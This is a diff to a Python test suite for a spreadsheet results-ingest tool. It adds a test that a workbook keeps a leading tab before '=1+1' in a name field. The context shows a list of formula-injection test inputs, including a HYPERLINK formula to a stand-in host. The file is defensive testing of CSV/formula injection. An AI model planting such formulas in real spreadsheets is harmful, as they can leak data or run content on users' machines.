@@ -66,6 +66,22 @@ def test_the_ingest_keeps_the_organisers_leading_tab_or_quote_and_trims_spaces()
     ]
 
 
+def test_a_workbook_keeps_the_organisers_leading_tab_too() -> None:
+    import xlsxwriter  # a dev dependency: only this test writes a workbook
+
+    rows = [("100", "\t=1+1", "Jean", 1), ("101", " Durand ", "\tLuc", 2)]
+    buffer = io.BytesIO()
+    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False})
+    sheet = book.add_worksheet("results")
+    for r, line in enumerate(results_csv("C1", rows).splitlines()):
+        sheet.write_row(r, 0, line.split(","))
+    book.close()
+    result = ingested({"2023-2024/C1.xlsx": buffer.getvalue()})
+    assert result.rejected == {}
+    names = result.tables["players"].sort("player_id").select("last_name", "first_name").rows()
+    assert names == [("\t=1+1", "Jean"), ("Durand", "Luc")]
+
+
 # The what-if on a world whose players' names begin with what a spreadsheet runs.
 _HOSTILE = ('=HYPERLINK("http://x.invalid/?{}";"{}")', "+{}", "-{}", "@{}")
 
